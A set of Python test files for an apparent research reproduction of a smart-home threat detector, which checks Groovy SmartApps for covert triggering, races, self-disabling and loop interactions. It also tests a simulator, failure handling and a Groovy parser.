    # on arrival: final state reflects the latter.
    assert home.device("Front lock").current_value("lock") == "unlocked"


def test_app_touch_event():
    home = SmartHome()
    home.add_device("Lamp", "light")
    source = '''
definition(name: "TapToToggle")
input "l1", "capability.switch"
def installed() { subscribe(app, "appTouch", h) }
def h(evt) {
    if (l1.currentSwitch == "off") { l1.on() } else { l1.off() }
}
'''
    home.install_app(source, "TapToToggle", bindings={"l1": "Lamp"})
    home.touch_app("TapToToggle")
    assert home.device("Lamp").current_value("switch") == "on"
    home.touch_app("TapToToggle")
    assert home.device("Lamp").current_value("switch") == "off"
