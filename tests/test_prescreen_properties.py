"""Prescreen soundness properties (DESIGN.md §10).

:func:`repro.detector.signature.may_interfere` prunes candidate pairs
before planning walks them or a constraint term is built.  The prune
must be *exact*: a pruned pair, handed to the brute-force
:meth:`DetectionEngine.detect_pair`, yields zero threats and zero
solver calls — otherwise the prescreen would silently change reported
threat sets.  These properties are asserted pair-by-pair over the
demo corpus and the generated (device-controlling + malicious)
corpora, for every unordered rule pair — not just the index-selected
candidates the pipeline would examine.
"""

import pytest

from repro.constraints import TypeBasedResolver
from repro.corpus import demo_apps, device_controlling_apps, malicious_apps
from repro.detector import DetectionEngine, DetectionPipeline, may_interfere
from repro.rules.extractor import RuleExtractor


def _corpus(apps):
    extractor = RuleExtractor()
    rulesets, hints, values = [], {}, {}
    for app in apps:
        rulesets.append(extractor.extract(app.source, app.name))
        hints[app.name] = app.type_hints
        values[app.name] = app.values
    return rulesets, TypeBasedResolver(type_hints=hints, values=values)


def _corpus_by_name(name):
    if name == "demo":
        return _corpus(list(demo_apps()))
    return _corpus(list(device_controlling_apps()) + list(malicious_apps()))


@pytest.mark.parametrize("corpus_name", ["demo", "generated"])
def test_pruned_pairs_yield_zero_threats_under_brute_force(corpus_name):
    rulesets, resolver = _corpus_by_name(corpus_name)
    engine = DetectionEngine(resolver)
    rules = [rule for ruleset in rulesets for rule in ruleset.rules]
    sigs = [engine.signatures.sign(rule) for rule in rules]

    pruned = kept = 0
    for i, sig_a in enumerate(sigs):
        for sig_b in sigs[i + 1:]:
            if may_interfere(sig_a, sig_b):
                kept += 1
                continue
            pruned += 1
            calls_before = engine.stats.solver_calls
            threats = engine.detect_signed(sig_a, sig_b)
            assert threats == [], (
                f"prescreen pruned a threat-bearing pair "
                f"{sig_a.rule_id} / {sig_b.rule_id}: {threats}"
            )
            # Exactness, not just soundness: a pruned pair would not
            # have touched the solver either.
            assert engine.stats.solver_calls == calls_before, (
                f"pruned pair {sig_a.rule_id} / {sig_b.rule_id} "
                f"performed solver work"
            )
    # The property must not hold vacuously: both populations exist.
    assert pruned > 0, "prescreen pruned nothing on this corpus"
    assert kept > 0, "prescreen kept nothing on this corpus"


def test_may_interfere_is_symmetric():
    rulesets, resolver = _corpus_by_name("generated")
    engine = DetectionEngine(resolver)
    sigs = [
        engine.signatures.sign(rule)
        for ruleset in rulesets
        for rule in ruleset.rules
    ]
    for i, sig_a in enumerate(sigs):
        for sig_b in sigs[i + 1:]:
            assert may_interfere(sig_a, sig_b) == may_interfere(
                sig_b, sig_a
            ), (sig_a.rule_id, sig_b.rule_id)


@pytest.mark.parametrize("corpus_name", ["demo", "generated"])
def test_prescreened_pipeline_reports_brute_force_threat_set(corpus_name):
    # End to end: the prescreened pipeline's threat set still equals
    # the brute-force scan (which never prescreens), and the engine
    # examined exactly the planned (post-prescreen) pairs.
    rulesets, resolver = _corpus_by_name(corpus_name)

    def keys(threats):
        return {
            (t.type.value, t.rule_a.rule_id, t.rule_b.rule_id)
            for t in threats
        }

    brute = DetectionEngine(resolver)
    brute_threats = set()
    for i, ruleset in enumerate(rulesets):
        brute_threats |= keys(
            brute.detect_rulesets(ruleset, rulesets[:i]).threats
        )

    pipeline = DetectionPipeline(resolver)
    pipeline_threats = set()
    for report in pipeline.audit_store(rulesets):
        pipeline_threats |= keys(report.threats)

    assert pipeline_threats == brute_threats
    assert pipeline.stats.solver_calls == brute.stats.solver_calls
    assert pipeline.stats.pairs_examined == pipeline.stats.planned_pairs
    if corpus_name == "generated":
        # The demo corpus's few index candidates all genuinely
        # interfere; the larger corpus must show real pruning on top
        # of index selection.
        assert pipeline.stats.prescreen_pruned_pairs > 0
