"""The six named detection findings of paper §VIII-B, reproduced with
the actual corpus apps.

1. SwitchChangesMode + MakeItSo create a covert switch->unlock rule.
2. CurlingIron chains through them: motion ends up unlocking the door.
3. NFCTagToggle and LockItWhenILeave race on the lock.
4. LetThereBeDark races with the other light-control apps.
5. ItsTooHot and EnergySaver form a Self-Disabling pair.
6. LightUpTheNight self-loops (the §III-B LT example in the wild).
"""

import pytest

from repro.constraints import TypeBasedResolver
from repro.corpus import device_controlling_apps
from repro.detector import DetectionEngine, ThreatType
from repro.detector.chains import AllowedList, find_chains
from repro.rules.extractor import RuleExtractor


@pytest.fixture(scope="module")
def corpus():
    extractor = RuleExtractor()
    rulesets, hints, values = {}, {}, {}
    for app in device_controlling_apps():
        rulesets[app.name] = extractor.extract(app.source, app.name)
        hints[app.name] = app.type_hints
        values[app.name] = app.values
    engine = DetectionEngine(TypeBasedResolver(type_hints=hints, values=values))
    return rulesets, engine


def pair_threats(corpus, name_a, name_b):
    rulesets, engine = corpus
    threats = []
    for rule_a in rulesets[name_a].rules:
        for rule_b in rulesets[name_b].rules:
            threats.extend(engine.detect_pair(rule_a, rule_b))
    return threats


def test_finding1_switchchangesmode_makeitso_covert_rule(corpus):
    threats = pair_threats(corpus, "SwitchChangesMode", "MakeItSo")
    cts = [
        t for t in threats
        if t.type is ThreatType.COVERT_TRIGGERING
        and t.rule_a.app_name == "SwitchChangesMode"
    ]
    assert cts, "switch state must covertly trigger MakeItSo's mode rule"
    # The covert rule's tail action includes unlocking the lock group.
    tail_commands = {t.rule_b.action.command for t in cts}
    assert "unlock" in tail_commands


def test_finding2_curlingiron_chain_unlocks_door(corpus):
    threats = (
        pair_threats(corpus, "CurlingIron", "SwitchChangesMode")
        + pair_threats(corpus, "SwitchChangesMode", "MakeItSo")
    )
    cts = [t for t in threats if t.type is ThreatType.COVERT_TRIGGERING]
    chains = find_chains(cts, AllowedList())
    unlocking = [
        chain for chain in chains
        if chain.chain[0].app_name == "CurlingIron"
        and chain.chain[-1].action.command == "unlock"
    ]
    assert unlocking, (
        "motion -> outlets on -> mode change -> unlock chain must appear "
        "(the paper's burglar-with-a-CO2-laser attack surface)"
    )


def test_finding3_nfctag_vs_lockitwhenileave_race(corpus):
    threats = pair_threats(corpus, "NFCTagToggle", "LockItWhenILeave")
    races = [t for t in threats if t.type is ThreatType.ACTUATOR_RACE]
    assert races, "tag-toggle unlock must race the auto-lock on the door"
    commands = {
        (t.rule_a.action.command, t.rule_b.action.command) for t in races
    }
    assert ("unlock", "lock") in commands or ("lock", "unlock") in commands


@pytest.mark.parametrize("other", [
    "UndeadEarlyWarning",
    "SmartNightlight",
    "TurnItOnFor5Minutes",
])
def test_finding4_lettherebedark_races(corpus, other):
    threats = pair_threats(corpus, "LetThereBeDark", other)
    assert any(t.type is ThreatType.ACTUATOR_RACE for t in threats), (
        f"LetThereBeDark must race {other} on the lights"
    )


def test_finding5_itstoohot_energysaver_self_disabling(corpus):
    threats = pair_threats(corpus, "ItsTooHot", "EnergySaver")
    sds = [t for t in threats if t.type is ThreatType.SELF_DISABLING]
    assert sds, (
        "EnergySaver must disable ItsTooHot: turning the AC on is the "
        "last straw that pushes usage over the threshold"
    )
    # Direction: ItsTooHot's action triggers EnergySaver which undoes it.
    assert any(t.rule_a.app_name == "ItsTooHot" for t in sds)


def test_finding6_lightupthenight_loop(corpus):
    rulesets, engine = corpus
    rules = rulesets["LightUpTheNight"].rules
    threats = []
    for i, rule_a in enumerate(rules):
        for rule_b in rules[i + 1:]:
            threats.extend(engine.detect_pair(rule_a, rule_b))
    assert any(t.type is ThreatType.LOOP_TRIGGERING for t in threats), (
        "the on-below-30lux / off-above-50lux pair must loop through the "
        "illuminance channel (unexpected light flashing)"
    )


def test_loop_reproduces_in_simulator():
    """Finding 6, dynamically: the light actually flaps."""
    from repro.corpus import app_by_name
    from repro.runtime import SmartHome

    home = SmartHome(seed=2)
    home.add_device("Lux", "illuminanceSensor")
    home.add_device("Lamp", "light")
    home.environment.set_ambient("illuminance", 20.0)  # dark dusk
    for device in home.devices.values():
        device.sample_channels(home.environment)
    home.install_app(app_by_name("LightUpTheNight").source,
                     "LightUpTheNight",
                     bindings={"lightSensor": "Lux", "lights": "Lamp"},
                     settings={"darkLux": 30, "brightLux": 50})
    home.trigger("Lux", "illuminance", 20)
    home.advance(300)
    lamp_commands = [c.command for c in home.commands
                     if c.device_label == "Lamp"]
    # The lamp turns on (dark), brightens the room above 50 lux, turns
    # off, darkens it below 30, turns on again, ...
    assert lamp_commands.count("on") >= 2
    assert lamp_commands.count("off") >= 1
