"""Edge-case tests for the detector's analysis primitives."""

from repro.constraints import TypeBasedResolver
from repro.detector.analysis import (
    TriggerMatch,
    action_identity,
    action_touches_condition,
    action_triggers,
    actions_contradict,
    command_target,
    condition_uses_location_mode,
    trigger_value_constraints,
)
from repro.detector.chains import AllowedList, find_chains
from repro.detector.types import Threat, ThreatType
from repro.rules import Action, Condition, Rule, Trigger, extract_rules
from repro.symex.values import (
    BinExpr,
    Const,
    DeviceRef,
    EventValue,
    LocationAttr,
)


def make_rule(app, subject, attribute, command, device_capability="capability.switch",
              constraint=None, action_device=None):
    device = DeviceRef(subject, device_capability)
    action_ref = action_device or device
    return Rule(
        app_name=app,
        rule_id=f"{app}/R1",
        trigger=Trigger(subject=subject, attribute=attribute,
                        constraint=constraint, device=device),
        condition=Condition(),
        action=Action(subject=action_ref.name, command=command,
                      device=action_ref,
                      capability=action_ref.capability.split(".")[-1]),
    )


def test_action_identity_for_location():
    rule = Rule(
        app_name="A", rule_id="A/R1",
        trigger=Trigger(subject="p", attribute="presence"),
        condition=Condition(),
        action=Action(subject="location", command="setLocationMode",
                      params=(Const("Away"),)),
    )
    resolver = TypeBasedResolver()
    identity, type_name = action_identity(resolver, rule)
    assert identity == "location:mode"
    assert type_name == "locationMode"


def test_action_identity_for_notification_is_none():
    rule = Rule(
        app_name="A", rule_id="A/R1",
        trigger=Trigger(subject="p", attribute="presence"),
        condition=Condition(),
        action=Action(subject="notification", command="sendPush"),
    )
    identity, type_name = action_identity(TypeBasedResolver(), rule)
    assert identity is None


def test_command_target_for_set_location_mode():
    action = Action(subject="location", command="setLocationMode",
                    params=(Const("Night"),))
    assert command_target(action) == ("mode", "Night")


def test_command_target_for_symbolic_mode_param():
    from repro.symex.values import UserInput

    action = Action(subject="location", command="setLocationMode",
                    params=(UserInput("m", "mode"),))
    assert command_target(action) == ("mode", None)


def test_actions_contradict_setpoints():
    a = Rule(
        "A", "A/R1", Trigger("t", "temperature"), Condition(),
        Action(subject="th", command="setHeatingSetpoint",
               params=(Const(80),), capability="thermostat",
               device=DeviceRef("th", "capability.thermostat")),
    )
    b = Rule(
        "B", "B/R1", Trigger("t", "temperature"), Condition(),
        Action(subject="th2", command="setHeatingSetpoint",
               params=(Const(60),), capability="thermostat",
               device=DeviceRef("th2", "capability.thermostat")),
    )
    assert actions_contradict(a, b)
    same = Rule(
        "C", "C/R1", Trigger("t", "temperature"), Condition(),
        Action(subject="th3", command="setHeatingSetpoint",
               params=(Const(80),), capability="thermostat",
               device=DeviceRef("th3", "capability.thermostat")),
    )
    assert not actions_contradict(a, same)


def test_trigger_constraints_flipped_comparison():
    trigger = Trigger(
        subject="t", attribute="temperature",
        constraint=BinExpr("<", Const(40), EventValue()),
    )
    assert trigger_value_constraints(trigger) == [(">", 40)]


def test_action_triggers_requires_device_trigger():
    rule_a = make_rule("A", "sw", "switch", "on")
    rule_time = Rule(
        "B", "B/R1",
        Trigger(subject="time", attribute="every5Minutes"),
        Condition(),
        Action(subject="x", command="off",
               device=DeviceRef("x", "capability.switch"),
               capability="switch"),
    )
    resolver = TypeBasedResolver(type_hints={"A": {"sw": "switch"},
                                             "B": {"x": "switch"}})
    assert action_triggers(resolver, rule_a, rule_time) is None


def test_action_triggers_environmental_direction_mismatch():
    # A heater (temperature +) cannot satisfy a "< threshold" trigger.
    heater_rule = make_rule("H", "c", "contact", "on",
                            device_capability="capability.contactSensor",
                            action_device=DeviceRef("heater1",
                                                    "capability.switch"))
    cold_trigger = Rule(
        "C", "C/R1",
        Trigger(
            subject="t", attribute="temperature",
            constraint=BinExpr("<", EventValue(), Const(40)),
            device=DeviceRef("t", "capability.temperatureMeasurement"),
        ),
        Condition(),
        Action(subject="h", command="on",
               device=DeviceRef("h", "capability.switch"),
               capability="switch"),
    )
    resolver = TypeBasedResolver(type_hints={
        "H": {"c": "contactSensor", "heater1": "heater"},
        "C": {"t": "temperatureSensor", "h": "heater"},
    })
    assert action_triggers(resolver, heater_rule, cold_trigger) is None


def test_condition_uses_location_mode():
    rule = Rule(
        "A", "A/R1", Trigger("sw", "switch"),
        Condition(predicate_constraints=(
            BinExpr("==", LocationAttr("mode"), Const("Night")),
        )),
        Action(subject="sw", command="off"),
    )
    assert condition_uses_location_mode(rule)
    assert not condition_uses_location_mode(
        Rule("A", "A/R2", Trigger("sw", "switch"), Condition(),
             Action(subject="sw", command="off"))
    )


def test_action_touches_condition_empty_for_notifications():
    notifier = Rule(
        "N", "N/R1", Trigger("c", "contact"), Condition(),
        Action(subject="notification", command="sendPush"),
    )
    target = make_rule("T", "sw", "switch", "on")
    assert action_touches_condition(TypeBasedResolver(), notifier, target) == []


def test_chain_threat_detail_names_every_hop():
    rules = [make_rule(f"App{i}", f"sw{i}", "switch", "on") for i in range(3)]
    threats = [
        Threat(type=ThreatType.COVERT_TRIGGERING, rule_a=rules[0],
               rule_b=rules[1]),
        Threat(type=ThreatType.COVERT_TRIGGERING, rule_a=rules[1],
               rule_b=rules[2]),
    ]
    chains = find_chains(threats, AllowedList())
    assert len(chains) == 1
    detail = chains[0].detail
    for i in range(3):
        assert f"App{i}" in detail


def test_chains_avoid_cycles():
    rules = [make_rule(f"App{i}", f"sw{i}", "switch", "on") for i in range(2)]
    threats = [
        Threat(type=ThreatType.COVERT_TRIGGERING, rule_a=rules[0],
               rule_b=rules[1]),
        Threat(type=ThreatType.COVERT_TRIGGERING, rule_a=rules[1],
               rule_b=rules[0]),
    ]
    chains = find_chains(threats, AllowedList())
    assert chains == []  # pure 2-cycles are LT's business, not chains


def test_allowed_list_only_keeps_chainable():
    allowed = AllowedList()
    rules = [make_rule(f"A{i}", f"s{i}", "switch", "on") for i in range(2)]
    allowed.add_all([
        Threat(type=ThreatType.ACTUATOR_RACE, rule_a=rules[0], rule_b=rules[1]),
        Threat(type=ThreatType.COVERT_TRIGGERING, rule_a=rules[0],
               rule_b=rules[1]),
    ])
    assert len(allowed.triggering_edges()) == 1
