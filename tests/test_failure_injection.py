"""Failure-injection tests: malformed inputs, broken transports,
missing configuration, adversarial apps."""

import pytest

from repro.capabilities.devices import make_device_id
from repro.config import ConfigPayload, SmsTransport, decode_uri, encode_uri
from repro.config.recorder import ConfigRecorder
from repro.constraints import TypeBasedResolver
from repro.detector import DetectionEngine
from repro.frontend.app import HomeGuardApp
from repro.rules import extract_rules
from repro.rules.extractor import ExtractionError, RuleExtractor
from repro.runtime import SmartHome


def test_malformed_uri_segments_rejected():
    with pytest.raises(ValueError):
        decode_uri("http://my.com/appname:A/brokensegment/")


def test_companion_app_survives_partial_config():
    """Unbound device inputs must not alias across apps (no spurious
    same-device findings when configuration is incomplete)."""
    backend = RuleExtractor()
    source = '''
input "c1", "capability.contactSensor"
input "l1", "capability.switch"
def installed() { subscribe(c1, "contact.open", h) }
def h(evt) { l1.on() }
'''
    backend.extract(source, "A")
    backend.extract(source.replace("l1.on()", "l1.off()")
                    .replace('"c1"', '"c9"').replace('"l1"', '"l9"')
                    .replace("c1,", "c9,").replace("l1.off", "l9.off"),
                    "B")
    app = HomeGuardApp(backend)
    # Neither app's payload carries any device binding.
    review_a = app.review_installation(ConfigPayload(app_name="A"))
    app.decide(review_a, __import__("repro").InstallDecision.KEEP)
    review_b = app.review_installation(ConfigPayload(app_name="B"))
    assert review_b.threats == []  # unbound inputs never alias


def test_sms_transport_failure_is_loud():
    transport = SmsTransport()
    transport.roaming = True
    payload = ConfigPayload(app_name="A", devices={"d": make_device_id("x")})
    with pytest.raises(ConnectionError):
        transport.send(encode_uri(payload), None)


def test_detection_engine_tolerates_rules_without_devices():
    source = '''
input "c1", "capability.contactSensor"
def installed() { subscribe(c1, "contact.open", h) }
def h(evt) { sendPush("hello") }
'''
    rule = extract_rules(source, "N").rules[0]
    engine = DetectionEngine(TypeBasedResolver())
    assert engine.detect_pair(rule, rule) == []


def test_extractor_rejects_garbage_source():
    with pytest.raises(ExtractionError):
        RuleExtractor().extract("}}} not groovy at all {{{")


def test_runtime_app_error_does_not_kill_home():
    home = SmartHome()
    home.add_device("Door", "contactSensor")
    home.add_device("Lamp", "light")
    crashing = '''
definition(name: "Crashy")
input "c1", "capability.contactSensor"
def installed() { subscribe(c1, "contact.open", h) }
def h(evt) {
    def x = null
    x.explode()
}
'''
    healthy = '''
definition(name: "Healthy")
input "c2", "capability.contactSensor"
input "l1", "capability.switch"
def installed() { subscribe(c2, "contact.open", h) }
def h(evt) { l1.on() }
'''
    home.install_app(crashing, "Crashy", bindings={"c1": "Door"})
    home.install_app(healthy, "Healthy",
                     bindings={"c2": "Door", "l1": "Lamp"})
    home.trigger("Door", "contact", "open")
    # The crashing handler is recorded, the healthy one still ran.
    assert home.device("Lamp").current_value("switch") == "on"


def test_event_pump_runaway_guard():
    """Two apps that re-trigger each other unboundedly get cut off."""
    home = SmartHome()
    home.add_device("L1", "light")
    home.add_device("L2", "light")
    ping = '''
definition(name: "Ping")
input "a", "capability.switch"
input "b", "capability.switch"
def installed() { subscribe(a, "switch", h) }
def h(evt) {
    if (evt.value == "on") { b.on() } else { b.off() }
}
'''
    pong = '''
definition(name: "Pong")
input "c", "capability.switch"
input "d", "capability.switch"
def installed() { subscribe(c, "switch", h) }
def h(evt) {
    if (evt.value == "on") { d.off() } else { d.on() }
}
'''
    home.install_app(ping, "Ping", bindings={"a": "L1", "b": "L2"})
    home.install_app(pong, "Pong", bindings={"c": "L2", "d": "L1"})
    home.trigger("L1", "switch", "on")  # starts an infinite flip loop
    assert any("runaway" in error for error in home.errors)


def test_recorder_identity_stable_across_reconfiguration():
    recorder = ConfigRecorder()
    from repro.symex.values import DeviceRef

    device_id = make_device_id("lamp")
    recorder.record(ConfigPayload(app_name="A", devices={"l1": device_id}))
    first, _ = recorder.identity("A", DeviceRef("l1", "capability.switch"))
    # Reconfiguration with the same device keeps the identity.
    recorder.record(ConfigPayload(app_name="A", devices={"l1": device_id},
                                  values={"x": "1"}))
    second, _ = recorder.identity("A", DeviceRef("l1", "capability.switch"))
    assert first == second


def test_path_explosion_capped_gracefully():
    branches = "\n".join(
        f'    if (state.s{i}) {{ sw1.on() }} else {{ sw1.off() }}'
        for i in range(16)
    )
    source = f'''
input "sw1", "capability.switch"
input "c1", "capability.contactSensor"
def installed() {{ subscribe(c1, "contact.open", h) }}
def h(evt) {{
{branches}
}}
'''
    report = RuleExtractor().extract_with_report(source, "Explode")
    # 2^16 paths exceed the budget; extraction still terminates with
    # rules and a warning instead of hanging.
    assert len(report.ruleset) >= 2
    assert any("explosion" in w for w in report.warnings)
