"""Equivalence: the indexed pipeline must report the exact same threat
set as the brute-force all-pairs scan, over every corpus scenario.

The brute-force :meth:`DetectionEngine.detect_rulesets` is the paper's
reference semantics; :class:`DetectionPipeline` reaches the same pairs
through signature/index candidate selection.  Both the threat sets
(type, rule pair, direction) and the solver-call counts must agree —
the index may only skip pairs no candidate test could ever pass.
"""

import pytest

from repro.constraints import TypeBasedResolver
from repro.corpus import (
    demo_apps,
    device_controlling_apps,
    malicious_apps,
)
from repro.detector import DetectionEngine, DetectionPipeline
from repro.rules.extractor import RuleExtractor


def _threat_key(threat):
    return (threat.type.value, threat.rule_a.rule_id, threat.rule_b.rule_id)


def _extract_corpus(apps):
    extractor = RuleExtractor()
    rulesets, hints, values = [], {}, {}
    for app in apps:
        rulesets.append(extractor.extract(app.source, app.name))
        hints[app.name] = app.type_hints
        values[app.name] = app.values
    return rulesets, hints, values


def _brute_force(rulesets, hints, values):
    engine = DetectionEngine(
        TypeBasedResolver(type_hints=hints, values=values)
    )
    threats = set()
    for i, ruleset in enumerate(rulesets):
        report = engine.detect_rulesets(ruleset, rulesets[:i])
        threats.update(map(_threat_key, report.threats))
    return threats, engine.stats


def _indexed(rulesets, hints, values):
    pipeline = DetectionPipeline(
        TypeBasedResolver(type_hints=hints, values=values)
    )
    threats = set()
    for report in pipeline.audit_store(rulesets):
        threats.update(map(_threat_key, report.threats))
    return threats, pipeline.stats


@pytest.mark.parametrize(
    "corpus",
    ["demo", "benign+generated+malicious"],
)
def test_pipeline_matches_brute_force(corpus):
    if corpus == "demo":
        apps = list(demo_apps())
    else:
        # device_controlling_apps() = handwritten benign + generated.
        apps = list(device_controlling_apps()) + list(malicious_apps())
    rulesets, hints, values = _extract_corpus(apps)
    brute_threats, brute_stats = _brute_force(rulesets, hints, values)
    indexed_threats, indexed_stats = _indexed(rulesets, hints, values)
    assert indexed_threats == brute_threats
    # The pipeline solves exactly the pairs the brute-force run solves —
    # candidate selection only skips pairs with no possible threat.
    assert indexed_stats.solver_calls == brute_stats.solver_calls
    # ... while examining no more (typically far fewer) pairs.
    assert indexed_stats.pairs_examined <= brute_stats.pairs_examined


def test_pipeline_incremental_matches_one_shot():
    # Installing apps one by one must accumulate the same threat set as
    # auditing the whole store in one pipeline.
    apps = list(demo_apps())
    rulesets, hints, values = _extract_corpus(apps)

    one_shot, _ = _indexed(rulesets, hints, values)

    pipeline = DetectionPipeline(
        TypeBasedResolver(type_hints=hints, values=values)
    )
    accumulated = set()
    for ruleset in rulesets:
        report = pipeline.add_ruleset(ruleset)
        accumulated.update(map(_threat_key, report.threats))
    assert accumulated == one_shot


def test_pipeline_remove_ruleset_restores_state():
    apps = list(demo_apps())
    rulesets, hints, values = _extract_corpus(apps)
    resolver = TypeBasedResolver(type_hints=hints, values=values)

    # Baseline: first two apps only.
    baseline = DetectionPipeline(resolver)
    base_threats = set()
    for report in baseline.audit_store(rulesets[:2]):
        base_threats.update(map(_threat_key, report.threats))

    # Install three, remove the third, re-detect the second: the report
    # must match a home that never saw the third app.
    pipeline = DetectionPipeline(resolver)
    pipeline.audit_store(rulesets[:3])
    pipeline.remove_ruleset(rulesets[2].app_name)
    assert pipeline.installed_apps() == sorted(
        rs.app_name for rs in rulesets[:2]
    )
    report = pipeline.detect(rulesets[1])
    replay = DetectionPipeline(resolver)
    replay.add_ruleset(rulesets[0])
    expected = replay.detect(rulesets[1])
    assert set(map(_threat_key, report.threats)) == set(
        map(_threat_key, expected.threats)
    )
