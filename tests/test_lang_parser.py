"""Unit tests for the Groovy-subset parser."""

import pytest

from repro.lang import ParseError, parse
from repro.lang import ast_nodes as ast

COMFORT_TV = '''
input "tv1", "capability.switch", title: "Which TV?"
input "tSensor", "capability.temperatureMeasurement"
input "threshold1", "number", title: "Higher than?"
input "window1", "capability.switch"
def installed() {
    subscribe(tv1, "switch", onHandler)
}
def updated() {
    unsubscribe()
    subscribe(tv1, "switch", onHandler)
}
def onHandler(evt) {
    def t = tSensor.currentValue("temperature")
    if ((evt.value == "on") && (t > threshold1)) turnOnWindow()
}
def turnOnWindow() {
    if (window1.currentSwitch == "off")
        window1.on()
}
'''


def first_expr(source):
    module = parse(source)
    stmt = module.top_level[0]
    assert isinstance(stmt, ast.ExprStmt)
    return stmt.expr


def test_parses_comfort_tv_listing():
    module = parse(COMFORT_TV)
    assert set(module.methods) == {"installed", "updated", "onHandler", "turnOnWindow"}
    assert len(module.top_level) == 4


def test_bare_input_command_with_named_args():
    module = parse(COMFORT_TV)
    call = module.top_level[0].expr
    assert isinstance(call, ast.MethodCall)
    assert call.name == "input"
    assert not call.parenthesized
    positional = call.positional_args()
    assert [arg.value for arg in positional] == ["tv1", "capability.switch"]
    assert "title" in call.named_args()


def test_subscribe_call_args():
    module = parse(COMFORT_TV)
    body = module.methods["installed"].body.statements
    call = body[0].expr
    assert call.name == "subscribe"
    assert isinstance(call.args[0], ast.Identifier)
    assert isinstance(call.args[1], ast.StringLiteral)
    assert isinstance(call.args[2], ast.Identifier)


def test_if_with_single_statement_body():
    module = parse(COMFORT_TV)
    handler = module.methods["onHandler"]
    if_stmt = handler.body.statements[1]
    assert isinstance(if_stmt, ast.IfStmt)
    assert len(if_stmt.then_block.statements) == 1
    assert isinstance(if_stmt.condition, ast.BinaryOp)
    assert if_stmt.condition.op == "&&"


def test_method_call_on_device():
    module = parse(COMFORT_TV)
    inner = module.methods["turnOnWindow"].body.statements[0]
    call = inner.then_block.statements[0].expr
    assert isinstance(call, ast.MethodCall)
    assert call.name == "on"
    assert isinstance(call.receiver, ast.Identifier)
    assert call.receiver.name == "window1"


def test_command_syntax_with_receiver():
    expr = first_expr('log.debug "some message"')
    assert isinstance(expr, ast.MethodCall)
    assert expr.name == "debug"
    assert expr.receiver.name == "log"
    assert expr.args[0].value == "some message"


def test_operator_precedence():
    module = parse("x = a + b * c < d && e")
    stmt = module.top_level[0]
    assert isinstance(stmt, ast.Assignment)
    assert stmt.value.op == "&&"
    left = stmt.value.left
    assert left.op == "<"
    assert left.left.op == "+"
    assert left.left.right.op == "*"


def test_ternary_expression():
    module = parse("def x = a > 1 ? 'big' : 'small'")
    decl = module.top_level[0]
    assert isinstance(decl.initializer, ast.TernaryOp)


def test_elvis_expression():
    module = parse("def x = name ?: 'anonymous'")
    assert isinstance(module.top_level[0].initializer, ast.ElvisOp)


def test_closure_with_params():
    expr = first_expr("devices.each { dev -> dev.off() }")
    assert expr.name == "each"
    closure = expr.args[0]
    assert isinstance(closure, ast.ClosureExpr)
    assert closure.params[0].name == "dev"


def test_closure_without_params_uses_implicit_it():
    expr = first_expr("switches.each { it.on() }")
    closure = expr.args[0]
    assert closure.params == []
    assert len(closure.body.statements) == 1


def test_trailing_closure_after_paren_args():
    expr = first_expr('section("Devices") { input "a", "capability.switch" }')
    assert expr.name == "section"
    assert isinstance(expr.args[0], ast.StringLiteral)
    assert isinstance(expr.args[-1], ast.ClosureExpr)


def test_map_literal_with_ident_keys():
    module = parse('def m = [devRefStr: "tv1", devRef: tv1]')
    literal = module.top_level[0].initializer
    assert isinstance(literal, ast.MapLiteral)
    keys = [entry.key.value for entry in literal.entries]
    assert keys == ["devRefStr", "devRef"]


def test_empty_map_and_list():
    module = parse("def a = [:]\ndef b = []")
    assert isinstance(module.top_level[0].initializer, ast.MapLiteral)
    assert isinstance(module.top_level[1].initializer, ast.ListLiteral)


def test_list_of_maps():
    module = parse('def d = [[a: 1], [a: 2]]')
    literal = module.top_level[0].initializer
    assert isinstance(literal, ast.ListLiteral)
    assert all(isinstance(el, ast.MapLiteral) for el in literal.elements)


def test_switch_statement():
    source = """
def handler(evt) {
    switch (evt.value) {
        case "on":
            doOn()
            break
        case "off":
            doOff()
            break
        default:
            log.debug "other"
    }
}
"""
    module = parse(source)
    switch = module.methods["handler"].body.statements[0]
    assert isinstance(switch, ast.SwitchStmt)
    assert len(switch.cases) == 3
    assert switch.cases[0].match.value == "on"
    assert switch.cases[2].match is None


def test_for_in_loop():
    module = parse("def f() { for (s in switches) { s.on() } }")
    loop = module.methods["f"].body.statements[0]
    assert isinstance(loop, ast.ForInStmt)
    assert loop.variable == "s"


def test_while_loop():
    module = parse("def f() { while (x < 3) { x = x + 1 } }")
    loop = module.methods["f"].body.statements[0]
    assert isinstance(loop, ast.WhileStmt)


def test_return_with_and_without_value():
    module = parse("def f() { return 1 }\ndef g() { return\n}")
    assert module.methods["f"].body.statements[0].value.value == 1
    assert module.methods["g"].body.statements[0].value is None


def test_gstring_interpolation_parsed():
    module = parse('def uri = "http://my.com/appname:${appname}/"')
    literal = module.top_level[0].initializer
    assert isinstance(literal, ast.GStringLiteral)
    embedded = [p for p in literal.parts if isinstance(p, ast.Expr)]
    assert len(embedded) == 1
    assert isinstance(embedded[0], ast.Identifier)


def test_definition_call_named_args():
    source = 'definition(name: "ComfortTV", namespace: "repro", author: "x")'
    expr = first_expr(source)
    assert expr.name == "definition"
    assert expr.named_args()["name"].value == "ComfortTV"


def test_labeled_statement_in_mappings():
    source = """
mappings {
    path("/switches") {
        action: [GET: "listSwitches"]
    }
}
"""
    module = parse(source)
    mappings = module.top_level[0].expr
    closure = mappings.args[0]
    path_call = closure.body.statements[0].expr
    inner = path_call.args[-1]
    labeled = inner.body.statements[0]
    assert isinstance(labeled, ast.LabeledStmt)
    assert labeled.label == "action"


def test_constructor_call():
    module = parse("def d = new Date()")
    assert isinstance(module.top_level[0].initializer, ast.ConstructorCall)


def test_method_pointer():
    module = parse("def h = this.&onHandler")
    pointer = module.top_level[0].initializer
    assert isinstance(pointer, ast.MethodPointer)
    assert pointer.name == "onHandler"


def test_cast_expression():
    module = parse("def x = value as Integer")
    cast = module.top_level[0].initializer
    assert isinstance(cast, ast.CastExpr)
    assert cast.type_name == "Integer"


def test_newline_ends_statement():
    module = parse("def a = 1\ndef b = 2")
    assert len(module.top_level) == 2


def test_newline_before_operator_ends_statement():
    # `b` and `- c` must not merge into a binary expression.
    module = parse("def f() { def a = b\n-c }")
    statements = module.methods["f"].body.statements
    assert len(statements) == 2


def test_leading_dot_continues_chain():
    module = parse("def x = device\n    .currentValue('switch')")
    init = module.top_level[0].initializer
    assert isinstance(init, ast.MethodCall)
    assert init.name == "currentValue"


def test_typed_declaration():
    module = parse("def f() { Map data = [a: 1] }")
    decl = module.methods["f"].body.statements[0]
